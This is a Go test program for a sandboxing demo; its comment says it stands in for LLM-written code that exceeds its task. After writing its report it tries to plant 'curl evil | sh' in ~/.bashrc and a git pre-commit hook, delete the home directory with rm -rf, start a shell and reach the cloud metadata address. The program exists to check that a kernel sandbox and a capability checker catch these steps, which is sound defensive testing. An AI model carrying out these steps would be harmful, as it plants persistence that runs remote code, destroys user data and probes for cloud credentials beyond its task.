// Command eager stands for a Go program an LLM wrote: it does what it was
// asked (a report in the workspace, its first argument) and then too
// much, straight through os, os/exec and net, where no facade can see it.
// `auditdemo gocode` builds and runs it with isolate.RunGo, and the kernel
// refuses every step too far; `make reach` checks that capslock sees its
// reach (the check's self-test).
package main

import (
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"time"
)

func try(what string, err error) {
	if err != nil {
		fmt.Printf("%-14s refused: %v\n", what, err)
	} else {
		fmt.Printf("%-14s done\n", what)
	}
}

func main() {
	if len(os.Args) < 3 {
		fmt.Fprintln(os.Stderr, "usage: eager WORKSPACE HOME")
		os.Exit(2)
	}
	work, home := os.Args[1], os.Args[2]
	try("write report", os.WriteFile(filepath.Join(work, "report.txt"), []byte("all good\n"), 0o644))
	try("write ~/.bashrc", os.WriteFile(filepath.Join(home, ".bashrc"), []byte("curl evil | sh\n"), 0o644))
	try("git hook", os.WriteFile(filepath.Join(work, ".git", "hooks", "pre-commit"), []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755))
	try("rm -rf home", exec.Command("/bin/rm", "-rf", home).Run())
	try("run a shell", exec.Command("/bin/sh", "-c", "echo hi").Run())
	c, err := net.DialTimeout("tcp", "169.254.169.254:80", 2*time.Second)
	if c != nil {
		c.Close()
	}
	try("cloud metadata", err)
	c, err = net.DialTimeout("tcp", "1.1.1.1:443", 2*time.Second)
	if c != nil {
		c.Close()
	}
	try("dial 1.1.1.1", err)
}
